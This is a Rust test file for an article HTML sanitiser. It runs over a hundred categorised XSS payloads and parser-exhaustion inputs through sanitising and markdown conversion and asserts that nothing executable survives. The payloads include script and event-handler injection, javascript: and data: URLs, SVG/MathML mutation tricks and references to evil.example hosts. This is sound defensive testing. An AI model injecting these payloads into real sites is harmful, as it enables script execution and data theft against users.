//! Attack payloads by kind, and sources built to exhaust the parser.
//! What comes out may be ugly; it must be harmless, everywhere.

use std::time::{Duration, Instant};

use crate::article::{
    ArticlePage, extract_body_content, normalize_content, render_page, sanitize, to_markdown, word_count,
};

/// Tags that can run, load, submit or restyle something.
const FORBIDDEN_TAGS: [&str; 26] = [
    "<script",
    "<style",
    "<iframe",
    "<frame",
    "<object",
    "<embed",
    "<applet",
    "<form",
    "<input",
    "<button",
    "<select",
    "<textarea",
    "<svg",
    "<math",
    "<video",
    "<audio",
    "<source",
    "<link",
    "<meta",
    "<base",
    "<template",
    "<noscript",
    "<isindex",
    "<marquee",
    "<dialog",
    "<portal",
];

/// Payloads by kind.
pub(super) const PAYLOADS: &[(&str, &[&str])] = &[
    (
        "script elements",
        &[
            "<script>alert(1)</script>",
            "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
            "<scr<script>ipt>alert(1)</scr</script>ipt>",
            "<script/xss src=x></script>",
            "<<script>alert(1);//<</script>",
            "<script>alert(1)",
            "<script\n>alert(1)</script\n>",
            "<scr\0ipt>alert(1)</scr\0ipt>",
            "<!--><script>alert(1)</script>-->",
            "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
            "<noscript><p title=\"</noscript><script>alert(1)</script>\">",
            "<title><img src=x onerror=alert(1)></title><script>alert(1)</script>",
        ],
    ),
    (
        "event handlers",
        &[
            "<img src=x onerror=alert(1)>",
            "<img/src=x/onerror=alert(1)>",
            "<img src=x:x onerror\n=\nalert(1)>",
            "<img src=\"x\"onerror=\"alert(1)\">",
            "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">",
            "<p onclick=alert(1)>x</p>",
            "<body onload=alert(1)>",
            "<details open ontoggle=alert(1)>x</details>",
            "<a href=/x onmouseover=alert(1) onfocus=alert(1) autofocus tabindex=1>x</a>",
            "<div style=animation-name:x onanimationstart=alert(1)>x</div>",
            "<p ONpointerenter='alert(1)'>x</p>",
            "<td background=x onbeforecopy=alert(1)>x</td>",
            "<img src=`x` onerror=`alert(1)`>",
            "<img alt=\"`><img src=x onerror=alert(1)>\" src=y>",
        ],
    ),
    (
        "addresses",
        &[
            "<a href=\"javascript:alert(1)\">x</a>",
            "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
            "<a href=\" \u{1} javascript:alert(1)\">x</a>",
            "<a href=\"java\tscript:alert(1)\">x</a>",
            "<a href=\"java&#10;script:alert(1)\">x</a>",
            "<a href=\"&#106;avascript:alert(1)\">x</a>",
            "<a href=\"&#x6A&#x61vascript:alert(1)\">x</a>",
            "<a href=\"javascript&colon;alert(1)\">x</a>",
            "<a href=\"java&Tab;script&colon;alert(1)\">x</a>",
            "<a href=\"vbscript:msgbox(1)\">x</a>",
            "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
            "<a href=\"blob:https://x/1\">x</a>",
            "<a href=\"file:///etc/passwd\">x</a>",
            "<img src=\"javascript:alert(1)\">",
            "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
            "<img src=x srcset=\"javascript:alert(1) 1x\">",
            "<img dynsrc=\"javascript:alert(1)\" lowsrc=\"javascript:alert(1)\">",
            "<a href=x ping=https://evil.example target=_blank>x</a>",
            "<blockquote cite=\"javascript:alert(1)\">x</blockquote>",
            "<table background=\"javascript:alert(1)\"><tr><td>x</table>",
            "<base href=\"javascript:alert(1)//\"><a href=/x>x</a>",
        ],
    ),
    (
        "styles",
        &[
            "<p style=\"background:url(javascript:alert(1))\">x</p>",
            "<div style=\"width:expression(alert(1))\">x</div>",
            "<style>@import 'https://evil.example/x.css';</style>",
            "<style><img src=\"</style><img src=x onerror=alert(1)>\">",
            "<link rel=stylesheet href=javascript:alert(1)>",
            "<p style=\"position:fixed;inset:0\">x</p>",
        ],
    ),
    (
        "frames, forms and plugins",
        &[
            "<iframe src=javascript:alert(1)></iframe>",
            "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
            "<iframe><img src=x onerror=alert(1)></iframe>",
            "<object data=javascript:alert(1)></object>",
            "<embed src=javascript:alert(1)>",
            "<form action=javascript:alert(1)><input type=submit></form>",
            "<button formaction=javascript:alert(1)>x</button>",
            "<isindex type=image src=1 onerror=alert(1)>",
            "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
            "<video><source onerror=alert(1)></video>",
            "<audio src=x onerror=alert(1)>",
            "<textarea><img src=x onerror=alert(1)></textarea>",
            "<xmp><img src=x onerror=alert(1)></xmp>",
            "<plaintext><img src=x onerror=alert(1)>",
        ],
    ),
    (
        "foreign content and mutation",
        &[
            "<svg onload=alert(1)>",
            "<svg><script>alert(1)</script></svg>",
            "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
            "<svg><animate attributeName=href values=javascript:alert(1) /><a>x</a></svg>",
            "<svg><style><img src=x onerror=alert(1)></style></svg>",
            "<math href=\"javascript:alert(1)\">x</math>",
            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
            "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
            "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
            "<math><annotation-xml encoding=text/html><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
            "<noscript><style></noscript><img src=x onerror=alert(1)>",
            "<template><img src=x onerror=alert(1)></template>",
            "<select><template><img src=x onerror=alert(1)></template></select>",
            "<table><a href=javascript:alert(1)><tr><td>x<a href=/y>z",
            "<p><svg><desc><p><style><img src='</style><img src=x onerror=alert(1)>'>",
            "<![CDATA[<script>alert(1)</script>]]>",
        ],
    ),
    (
        "text that becomes markup",
        &[
            "&lt;script&gt;alert(1)&lt;/script&gt;",
            "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
            "[x](javascript:alert(1))",
            "[x]( java\tscript:alert(1))",
            "![x](javascript:alert(1))",
            "![x](x\"onerror=\"alert(1))",
            "<javascript:alert(1)>",
            "[a]: javascript:alert(1)\n\n[a]",
            "```\n<script>alert(1)</script>\n```",
            "# <img src=x onerror=alert(1)>",
            "> <script>alert(1)</script>",
            "\"><script>alert(1)</script>",
            "'><img src=x onerror=alert(1)>",
            "</title><script>alert(1)</script>",
            "</style><script>alert(1)</script>",
            "\u{feff}<script>alert(1)</script>",
            "＜script＞alert(1)＜/script＞",
            "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        ],
    ),
];

/// Panics, naming the source, unless every tag of `html` is an article's.
pub(super) fn assert_harmless(html: &str, source: &str) {
    let lower = html.to_lowercase();
    for tag in FORBIDDEN_TAGS {
        assert!(!lower.contains(tag), "{tag} from {source:?}: {html}");
    }
    for tag in tags(html) {
        for (name, value) in attributes(tag) {
            assert!(
                !name.starts_with("on") && name != "style" && name != "srcset",
                "{name} from {source:?}: {html}"
            );
            let address: String = value
                .chars()
                .filter(|character| !character.is_whitespace() && !character.is_control())
                .collect();
            let scheme = address
                .split_once(':')
                .map(|(scheme, _)| scheme.to_lowercase())
                .filter(|_| matches!(name, "href" | "src"));
            assert!(
                scheme
                    .as_deref()
                    .is_none_or(|scheme| matches!(scheme, "http" | "https" | "mailto") || !is_scheme(scheme)),
                "{name}={value} from {source:?}: {html}"
            );
        }
    }
}

fn is_scheme(text: &str) -> bool {
    text.starts_with(|character: char| character.is_ascii_alphabetic())
        && text.chars().all(|character| character.is_ascii_alphanumeric() || "+-.".contains(character))
}

/// Sanitised HTML quotes every value and escapes `<` and `>` in text, so this reading is exact.
fn tags(html: &str) -> Vec<&str> {
    html.split('<').skip(1).map(|tag| tag.rsplit_once('>').map_or(tag, |(tag, _)| tag)).collect()
}

fn attributes(tag: &str) -> Vec<(&str, &str)> {
    let mut found = Vec::new();
    let mut rest = tag.split_once(' ').map_or("", |(_, rest)| rest);
    while let Some((name, after)) = rest.split_once("=\"") {
        let (value, after) = after.split_once('"').unwrap_or((after, ""));
        found.push((name.trim(), value));
        rest = after;
    }
    found
}

#[test]
fn every_payload_comes_out_harmless() {
    let all = PAYLOADS.iter().flat_map(|(_, payloads)| *payloads);
    assert!(all.clone().count() >= 100);
    for payload in all {
        let framed = [
            (*payload).to_owned(),
            format!("<p>before {payload} after</p>"),
            format!("Plain words\n\n{payload}\n\nMore."),
            format!("<img src=x alt=\"{payload}\">"),
            format!("<a href='{payload}' title='{payload}'>x</a>"),
            format!("# Title\n\n**bold** {payload}"),
            format!("<table><tr>{payload}<td>{payload}"),
            format!(
                "<!doctype html><html><head>{payload}</head><body {payload}>{payload}</body></html>{payload}"
            ),
        ];
        for source in framed {
            assert_harmless(&sanitize(&source), &source);
            assert_harmless(&normalize_content(&source), &source);
            assert_harmless(&extract_body_content(&source), &source);
            let back = normalize_content(&to_markdown(&source));
            assert_harmless(&back, &source);
        }
    }
}

#[test]
fn every_payload_is_harmless_in_every_place_of_a_page() {
    let harmless = ArticlePage {
        title: "t",
        meta_title: "m",
        meta_description: "d",
        language: "en",
        html: "<p>x</p>",
        featured_image: Some(("/a.png", "a")),
        generator_note: Some("n"),
    };
    let expected = render_page(&harmless).matches('<').count();
    for payload in PAYLOADS.iter().flat_map(|(_, payloads)| *payloads) {
        let pages = [
            ArticlePage { title: payload, ..harmless },
            ArticlePage { meta_title: payload, ..harmless },
            ArticlePage { meta_description: payload, ..harmless },
            ArticlePage { language: payload, ..harmless },
            ArticlePage { generator_note: Some(payload), ..harmless },
            ArticlePage { featured_image: Some(("/a.png", payload)), ..harmless },
        ];
        for page in pages {
            let html = render_page(&page);
            assert_eq!(html.matches('<').count(), expected, "{payload}: {html}");
        }
        for page in [
            ArticlePage { html: payload, ..harmless },
            ArticlePage { featured_image: Some((payload, payload)), ..harmless },
        ] {
            let html = render_page(&page);
            let article = html.split_once("<article>").map_or("", |(_, article)| article);
            assert_harmless(article, payload);
            assert_eq!(html.matches("<style").count(), 1, "{payload}");
        }
    }
}

#[test]
fn sources_built_to_exhaust_the_parser_do_not() {
    let many = 10_000;
    let attributes: String =
        (0..many).fold(String::from("<a href=/x "), |tag, at| tag + &format!("a{at}='>' ")) + ">x</a>";
    let sources = [
        ("nested div", format!("{}x{}", "<div>".repeat(100_000), "</div>".repeat(100_000))),
        ("never closed", "<div><p><b><i>".repeat(many)),
        (
            "formatting",
            (0..many).map(|at| format!("<b title={at}>")).collect::<String>() + &"<p>x</p>".repeat(1_000),
        ),
        ("formatting in turn", "<b><p>x</b>".repeat(many)),
        ("links", "<a href=/x>".repeat(many)),
        ("tables", "<table><tr><td>".repeat(many)),
        ("foster parents", format!("<table>{}", "x<b>".repeat(many))),
        ("lists", "<ul><li>".repeat(many)),
        ("foreign", "<svg><math>".repeat(many)),
        ("end tags", "</p></div></b>".repeat(many)),
        ("attributes", attributes),
        ("open tags", "<a ".repeat(many)),
        ("open quotes", "<a b='".repeat(many)),
        ("open comments", "<!--".repeat(many)),
        ("comments", "<!-- > -->".repeat(many)),
        ("raw text", "<script><style>".repeat(many)),
        ("references", "&amp;&lt;&unknown;&#".repeat(many)),
        ("ampersands", "&".repeat(many)),
        ("angle brackets", "<".repeat(many)),
        ("quotes in markdown", ">".repeat(many)),
        ("quotes in markdown lines", "> > > # x\n".repeat(10_000)),
        ("brackets", "[".repeat(many)),
        ("images", "![".repeat(many)),
        ("links in markdown", "[x](".repeat(10_000)),
        ("stars", "**a *b ".repeat(many)),
        ("backticks", (1..500).map(|length| "`".repeat(length) + " ").collect()),
        ("bullets", "- ".repeat(10_000)),
        ("nested bullets", (0..500).map(|depth| format!("{}- x\n", "  ".repeat(depth))).collect()),
        ("table", format!("a|b\n-|-\n{}", "x|y\n".repeat(10_000))),
        ("wide table", format!("{}\n{}\n{}", "a|".repeat(1_000), "-|".repeat(1_000), "x\n".repeat(1_000))),
        ("one long line", "word ".repeat(many)),
        ("many lines", "Short line\n\n".repeat(many)),
        ("footnotes and references", "[a]: /x\n".repeat(10_000)),
        ("pre", format!("<pre>{}</pre>", "\n".repeat(many))),
        ("nested pre", "<pre>\n".repeat(many)),
    ];
    for (name, source) in sources {
        let started = Instant::now();
        let html = normalize_content(&source);
        assert_harmless(&html, name);
        let _ = (sanitize(&source), to_markdown(&source), word_count(&source));
        let taken = started.elapsed();
        println!("{name}: {} KB in {taken:?}", source.len() / 1024);
        assert!(taken < Duration::from_secs(20), "{name} took {taken:?}");
    }
}
